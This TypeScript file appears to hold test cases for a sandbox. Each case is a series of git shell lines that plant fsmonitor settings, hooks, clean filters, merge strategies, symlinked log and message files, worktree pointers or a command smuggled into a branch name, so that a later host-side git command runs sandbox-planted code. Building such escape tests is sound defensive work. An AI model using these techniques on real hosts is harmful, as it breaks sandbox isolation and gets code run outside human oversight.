/** A way around what is protected: the host sets `name` up, the sandbox plants, the host uses. All are shell lines. */
export interface Detour {
  readonly name: string;
  /** In the workspace, before the run */
  readonly before?: string;
  /** In the sandbox; `$P` is a program that leaves the marker, `$W` the workspace, `$H` the user's home */
  readonly plant: string;
  /** On the host, afterwards; what it leaves as `$M/NAME` is the verdict */
  readonly use: string;
}

const identity = "-c user.name=a -c user.email=a@b";
const conflict = `cd NAME; echo a > f; git add f; git commit -qm a; git switch -qc side; echo b > f; git commit -qam b; git switch -q main; echo c > f; git commit -qam c`;
const strategy = `mkdir git-merge-evil; cp $P git-merge-evil/prog`;

export const detours: readonly Detour[] = [
  {
    name: "bare-around",
    plant: `mkdir -p lib/objects lib/refs lib/src; echo 'ref: refs/heads/main' > lib/HEAD; git init -q lib/src; git -C lib/src config core.fsmonitor $P`,
    use: "cd lib/src; git status",
  },
  {
    name: "log-link",
    plant: `ln -sf $H/log-link .git/logs/HEAD; git branch 'b;touch\${IFS}'$M'/log-link;'`,
    use: `git checkout -q 'b;touch\${IFS}'$M'/log-link;'; git checkout -q main; bash $H/log-link`,
  },
  {
    name: "message-link",
    plant: `ln -sf $H/message-link .git/COMMIT_EDITMSG; echo "touch $M/message-link" > .git/MERGE_MSG; git rev-parse HEAD > .git/MERGE_HEAD`,
    use: "GIT_EDITOR=true git commit --allow-empty; bash $H/message-link",
  },
  {
    name: "inner-link",
    plant: `ln -sf hooks/post-commit .git/FETCH_HEAD; ln -sf config .git/COMMIT_EDITMSG; printf '[core]\\n\\tfsmonitor = %s\\n' $P > .git/MERGE_MSG; git rev-parse HEAD > .git/MERGE_HEAD`,
    use: "GIT_EDITOR=true git commit --allow-empty; git status",
  },
  {
    name: "strategy-sequencer",
    before: conflict,
    plant: `git ${identity} cherry-pick side main~1; ${strategy}; printf '[options]\\n\\tstrategy = evil/prog\\n' > .git/sequencer/opts; echo "pick $(git rev-parse side) b" >> .git/sequencer/todo; echo z > f; git add f`,
    use: "git cherry-pick --continue; git commit -qam x; git cherry-pick --continue",
  },
  {
    name: "strategy-rebase",
    before: conflict,
    plant: `git ${identity} rebase main side; ${strategy}; echo evil/prog > .git/rebase-merge/strategy; echo "pick $(git rev-parse main) b" >> .git/rebase-merge/git-rebase-todo; echo z > f; git add f`,
    use: "GIT_EDITOR=true git rebase --continue",
  },
  {
    name: "long-todo",
    before: conflict,
    plant: `git ${identity} rebase main side; { printf '# %02000000d\\n' 1; echo "exec $P"; } >> .git/rebase-merge/git-rebase-todo; echo z > f; git add f`,
    use: "GIT_EDITOR=true git rebase --continue",
  },
  {
    name: "inner-worktree",
    plant: `mkdir sub; git init -q --bare .git/evil; rm -f .git/evil/HEAD; git config -f .git/evil/config core.bare false; git config -f .git/evil/config core.fsmonitor $P; mkdir -p .git/evil/worktrees/x; echo 'ref: refs/heads/main' > .git/evil/worktrees/x/HEAD; echo ../.. > .git/evil/worktrees/x/commondir; echo $PWD/sub/.git > .git/evil/worktrees/x/gitdir; echo 'gitdir: ../.git/evil/worktrees/x' > sub/.git`,
    use: "cd sub; git status",
  },
  {
    name: "two-lines",
    plant: `mkdir sub; git init -q .git/ok; mv .git/ok/.git .git/good; n=$(printf '.git/good\\nevil'); cp -r .git/good "$n"; git config -f "$n/config" core.fsmonitor $P; printf 'gitdir: ../.git/good\\nevil\\n' > sub/.git`,
    use: "cd sub; git status",
  },
  {
    name: "work-tree-elsewhere",
    plant: `mkdir -p sub; git init -q sub; cd sub; cp $P run; git add run; git ${identity} commit -qm x; git config core.worktree ../../../../home`,
    use: "cd sub; git checkout -q -f .; $H/run",
  },
  {
    name: "names-taken",
    plant: `git init -q n; git -C n config core.fsmonitor $P; mkdir n/.git.vaultbox-disabled; for i in $(seq 2 120); do mkdir n/.git.vaultbox-disabled-$i; done`,
    use: "cd n; git status",
  },
  {
    name: "hooks-of-work-tree",
    before: `cd NAME; git config core.hooksPath .githooks; git worktree add -q ../NAME-linked; mkdir ../NAME-linked/.githooks; echo true > ../NAME-linked/.githooks/pre-commit; chmod +x ../NAME-linked/.githooks/pre-commit`,
    plant: `cat $P > ../NAME-linked/.githooks/pre-commit; rm -rf ../NAME-linked/.githooks; mkdir ../NAME-linked/.githooks; cp $P ../NAME-linked/.githooks/pre-commit`,
    use: "cd ../NAME-linked; git commit -q --allow-empty -m x",
  },
  {
    name: "hooks-of-included",
    before: `cd NAME; printf '[core]\\n\\thooksPath = .gh\\n' > .gitcfg; mkdir .gh; echo true > .gh/pre-commit; chmod +x .gh/pre-commit; git config include.path ../.gitcfg`,
    plant: `cat $P > .gh/pre-commit; rm -rf .gh; mkdir .gh; cp $P .gh/pre-commit`,
    use: "git commit -q --allow-empty -m x",
  },
  {
    name: "inside-git",
    before: `cd NAME; echo '[a]' > .git/local.inc; git config include.path local.inc; mkdir .git/own-hooks; git config core.hooksPath .git/own-hooks`,
    plant: `cp $P .git/own-hooks/pre-commit; printf '[core]\\n\\tfsmonitor = %s\\n' $P > .git/local.inc`,
    use: "git commit -q --allow-empty -m x; git status",
  },
  {
    name: "hook-script",
    before: `cd NAME; mkdir scripts; echo true > scripts/check.sh; printf '#!/bin/sh\\nexec sh "$(git rev-parse --show-toplevel)"/scripts/check.sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`,
    plant: `cat $P > scripts/check.sh; rm -rf scripts; mkdir scripts; cp $P scripts/check.sh`,
    use: "git commit -q --allow-empty -m x",
  },
  {
    name: "hooks-of-worktree-settings",
    before: `cd NAME; git config extensions.worktreeConfig true; git worktree add -q ../NAME-linked; cd ../NAME-linked; git config --worktree core.hooksPath hk; mkdir hk; echo true > hk/pre-commit; chmod +x hk/pre-commit`,
    plant: `cat $P > ../NAME-linked/hk/pre-commit; rm -rf ../NAME-linked/hk; mkdir ../NAME-linked/hk; cp $P ../NAME-linked/hk/pre-commit`,
    use: "cd ../NAME-linked; git commit -q --allow-empty -m x",
  },
  {
    name: "new-work-tree",
    before: `cd NAME; mkdir tools; echo cat > tools/clean; git config filter.x.clean 'sh tools/clean'; echo '*.x filter=x' > .gitattributes; echo 1 > f.x; git add .; git commit -qm x`,
    plant: `git worktree add -q ../NAME-linked; cp $P ../NAME-linked/tools/clean; echo 2 > ../NAME-linked/f.x`,
    use: "cd ../NAME-linked; git status",
  },
  {
    name: "copied-git-file",
    before: `cd NAME; mkdir tools; echo cat > tools/clean; git config filter.x.clean 'sh tools/clean'; echo '*.x filter=x' > .gitattributes; echo 1 > f.x; git add .; git commit -qm x; git worktree add -q ../NAME-linked`,
    plant: `mkdir -p sub/tools; cp ../NAME-linked/.git sub/.git; cp .gitattributes sub; cp $P sub/tools/clean; echo 2 > sub/f.x`,
    use: "cd sub; git status",
  },
  {
    name: "pattern-and-folder",
    before: `cd NAME; mkdir tools; for f in h15.sh tools/h16; do printf '#!/bin/sh\\ncat\\n' > $f; chmod +x $f; done; git config filter.x.clean './h*5.sh'; git config filter.y.clean 'env -C tools ./h16'; printf '*.x filter=x\\n*.y filter=y\\n' > .gitattributes; echo 1 > f.x; echo 1 > f.y; git add .; git commit -qm x`,
    plant: `cat $P > h15.sh; cat $P > tools/h16; echo 2 > f.x; echo 2 > f.y`,
    use: "git status",
  },
];
